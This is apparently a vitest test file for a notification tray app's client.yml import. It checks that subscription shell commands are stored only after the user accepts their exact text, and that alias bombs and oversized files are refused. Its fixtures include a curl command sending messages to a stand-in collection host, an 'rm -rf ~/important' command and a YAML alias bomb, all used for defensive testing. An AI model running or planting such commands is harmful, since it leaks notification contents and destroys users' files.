/**
 * A client.yml import through the bridge the window uses (createBridgeApi over dispatchRequest, the real core, a
 * real settings file): the plan stores nothing; a command is stored only where the user accepted its exact text;
 * a refused one leaves its subscription without a command. At any size: an alias bomb is named, a file over the
 * limit is refused whole saying the limit, and the settings writes and keychain calls of an import do not grow with
 * the number of entries (one save per entry rewrote the whole file each time: quadratic). Speed itself is measured
 * in bench/import.ts, never here.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type {
  BridgeApi,
  BridgeRequests,
  BridgeResult,
  ClientYmlImportDto,
  SubscriptionDto,
} from '../../../../common/ipc.ts';
import { CLIENT_YML_MAX_SUBSCRIPTIONS } from '../../../../common/ipc-dto.ts';
import { dispatchRequest } from '../../../../main/core/bridge/dispatch.ts';
import { openConfSettingsStore } from '../../../../main/core/store/settings/conf-settings-store.ts';
import type { SettingsStore } from '../../../../main/core/store/settings/settings-store.ts';
import { createRecordingLogger } from '../../../fakes/logger.ts';
import { type CoreBridge, memoryKeychain, openCoreBridge } from '../../../support/core-bridge.ts';

const log = createRecordingLogger();
const SERVER = 'https://ntfy.example.com';

let dir: string;
let core: CoreBridge;
let api: BridgeApi;
let service: BridgeRequests;
let settings: SettingsStore;
/** Settings updates (each one a write of the whole file) and keychain calls, counted. */
let counts: { settingsUpdates: number; keychainCalls: number };
let keychain: ReadonlyMap<string, string>;

function countingSettings(store: SettingsStore): SettingsStore {
  return {
    get path() {
      return store.path;
    },
    get loadReport() {
      return store.loadReport;
    },
    get: () => store.get(),
    onChange: (listener) => store.onChange(listener),
    update: (change) => {
      counts.settingsUpdates += 1;
      return store.update(change);
    },
  };
}

beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'ntfy-tray-yml-import-'));
  counts = { settingsUpdates: 0, keychainCalls: 0 };
  settings = countingSettings(openConfSettingsStore({ dir, log }));
  const secrets = memoryKeychain(() => {
    counts.keychainCalls += 1;
  });
  keychain = secrets.entries;
  core = await openCoreBridge({ dir, settings, secrets, log });
  ({ api, service } = core);
});

afterEach(async () => {
  await core.close();
  await rm(dir, { recursive: true, force: true });
});

function valueOf<T>(result: BridgeResult<T>): T {
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

async function subscriptions(): Promise<readonly SubscriptionDto[]> {
  return valueOf(await api.listSubscriptions());
}

const WITH_COMMANDS = `default-host: ${SERVER}
default-command: curl -s https://collect.example/?m="$m"
subscribe:
  - topic: alerts
    command: notify-send "$t" "$m"
  - topic: backups
  - topic: builds
    command: |
      rm -rf ~/important
      echo done
`;

describe('client.yml import: commands wait for the user', () => {
  it('plans without storing anything, listing each entry with its exact command', async () => {
    const plan = valueOf(await api.planClientYml(WITH_COMMANDS, 'client.yml'));
    expect(plan).toEqual({
      kind: 'plan',
      entries: [
        {
          entry: 1,
          label: 'client.yml, subscribe entry 1',
          server: SERVER,
          topics: ['alerts'],
          command: 'notify-send "$t" "$m"',
        },
        {
          entry: 2,
          label: 'client.yml, subscribe entry 2',
          server: SERVER,
          topics: ['backups'],
          command: 'curl -s https://collect.example/?m="$m"',
        },
        {
          entry: 3,
          label: 'client.yml, subscribe entry 3',
          server: SERVER,
          topics: ['builds'],
          command: 'rm -rf ~/important\necho done\n',
        },
      ],
    });
    expect(await subscriptions()).toEqual([]);
    expect(settings.get().defaultServer).not.toBe(SERVER);
    expect(counts.settingsUpdates).toBe(0);
  });

  it('refusing every command stores the subscriptions without any', async () => {
    const report = valueOf(await api.importClientYml(WITH_COMMANDS, 'client.yml', { commands: [] }));
    expect(report).toMatchObject({ kind: 'imported', imported: 3, withCommand: 0, commandsRefused: 3 });
    const stored = await subscriptions();
    expect(stored.map((item) => [item.topic, item.command])).toEqual([
      ['alerts', undefined],
      ['backups', undefined],
      ['builds', undefined],
    ]);
    expect(settings.get().subscriptions.every((item) => item.command === undefined)).toBe(true);
  });

  it('stores only the accepted commands, and only when their text is the one shown', async () => {
    const report = valueOf(
      await api.importClientYml(WITH_COMMANDS, 'client.yml', {
        commands: [
          { entry: 1, command: 'notify-send "$t" "$m"' },
          // Not what entry 2 says (its default-command): a command nobody saw is not stored.
          { entry: 2, command: 'true' },
        ],
      }),
    );
    expect(report).toMatchObject({ kind: 'imported', imported: 3, withCommand: 1, commandsRefused: 2 });
    expect((await subscriptions()).map((item) => [item.topic, item.command])).toEqual([
      ['alerts', 'notify-send "$t" "$m"'],
      ['backups', undefined],
      ['builds', undefined],
    ]);
  });

  it('refuses an accepted-commands argument that is not a list of entries and texts, storing nothing', async () => {
    const bad = await dispatchRequest(
      service,
      'subscriptions:import-client-yml',
      [WITH_COMMANDS, 'client.yml', { commands: [{ entry: 1 }] }],
      log,
    );
    expect(bad).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
    expect(await subscriptions()).toEqual([]);
  });
});

function entries(count: number, entry: (index: number) => string, defaults = ''): string {
  const list = Array.from({ length: count }, (_, index) => entry(index)).join('');
  return `default-host: ${SERVER}\n${defaults}subscribe:\n${list}`;
}

describe('client.yml import at any size', () => {
  it('names an alias bomb instead of failing inside', async () => {
    const bomb = [
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'subscribe: [*d]',
    ].join('\n');
    const expected = {
      kind: 'unreadable',
      problem: 'bomb.yml uses YAML aliases (*name) that expand too far (an alias bomb): write the values out instead',
    };
    expect(valueOf(await api.planClientYml(bomb, 'bomb.yml'))).toEqual(expected);
    expect(valueOf(await api.importClientYml(bomb, 'bomb.yml', { commands: [] }))).toEqual(expected);
    expect(await subscriptions()).toEqual([]);
  });

  it('refuses a file over the limit whole, saying the limit', async () => {
    const over = entries(CLIENT_YML_MAX_SUBSCRIPTIONS + 1, (index) => `  - topic: t${index}\n`);
    const refusal = { kind: 'too-many', subscriptions: CLIENT_YML_MAX_SUBSCRIPTIONS + 1, limit: 1000 };
    expect(valueOf(await api.planClientYml(over, 'client.yml'))).toEqual(refusal);
    expect(valueOf(await api.importClientYml(over, 'client.yml', { commands: [] }))).toEqual(refusal);
    // Topics joined by commas count one by one.
    const joined = entries(500, (index) => `  - topic: a${index},b${index},c${index}\n`);
    expect(valueOf(await api.planClientYml(joined, 'client.yml'))).toEqual({ ...refusal, subscriptions: 1500 });
    expect(await subscriptions()).toEqual([]);
    expect(counts.settingsUpdates).toBe(0);
  });

  it('writes the settings and asks the keychain as often for 1,000 entries as for 10', async () => {
    const file = (count: number) =>
      entries(count, (index) => `  - topic: t${index}\n`, 'default-user: phil\ndefault-password: pw\n');
    const runs: (typeof counts & { report: ClientYmlImportDto })[] = [];
    for (const count of [10, CLIENT_YML_MAX_SUBSCRIPTIONS]) {
      for (const item of settings.get().subscriptions) await api.removeSubscription(item.id, { deleteHistory: false });
      counts = { settingsUpdates: 0, keychainCalls: 0 };
      const report = valueOf(await api.importClientYml(file(count), 'client.yml', { commands: [] }));
      runs.push({ ...counts, report });
    }
    expect(runs[0]?.report).toMatchObject({ imported: 10, serversWithCredentials: 1 });
    expect(runs[1]?.report).toMatchObject({ imported: 1000, serversWithCredentials: 1 });
    // One write for the credentials, one for the subscriptions, one for default-host; one keychain call.
    expect(runs.map(({ settingsUpdates, keychainCalls }) => ({ settingsUpdates, keychainCalls }))).toEqual([
      { settingsUpdates: 3, keychainCalls: 1 },
      { settingsUpdates: 3, keychainCalls: 1 },
    ]);
    // The window's list after an import asks the keychain once per server, not once per subscription.
    counts.keychainCalls = 0;
    expect(await subscriptions()).toHaveLength(1000);
    expect(counts.keychainCalls).toBe(1);
  });

  it('asks the keychain once per entry with its own credentials, and writes the settings once for them all', async () => {
    const file = entries(200, (index) => `  - topic: https://h${index}.example/t\n    token: tk_${index}\n`);
    const report = valueOf(await api.importClientYml(file, 'client.yml', { commands: [] }));
    expect(report).toMatchObject({ imported: 200, serversWithCredentials: 0, credentialFailures: [] });
    // The subscriptions, their own credentials, default-host (no server credentials: no write for them).
    expect(counts).toEqual({ settingsUpdates: 3, keychainCalls: 200 });
    const h7 = settings.get().subscriptions.find((item) => item.server === 'https://h7.example');
    expect(h7?.auth).toEqual({ kind: 'token' });
    expect(keychain.get(`https://h7.example token subscription:${h7?.id ?? ''}`)).toBe('tk_7');
  });

  it('still refuses, entry by entry, what one save would refuse, and writes the others', async () => {
    const long = 'x'.repeat(5000);
    const file = `default-host: ${SERVER}
subscribe:
  - topic: good
    command: echo ok
  - topic: long
    command: ${long}
  - topic: good
`;
    const report = valueOf(
      await api.importClientYml(file, 'client.yml', {
        commands: [
          { entry: 1, command: 'echo ok' },
          { entry: 2, command: long },
        ],
      }),
    );
    expect(report).toMatchObject({ kind: 'imported', imported: 1, skipped: 1, withCommand: 1 });
    if (report.kind !== 'imported') return;
    expect(report.failures).toHaveLength(1);
    expect(report.failures[0]?.label).toBe('client.yml, subscribe entry 2');
    expect((await subscriptions()).map((item) => item.topic)).toEqual(['good']);
  });
});
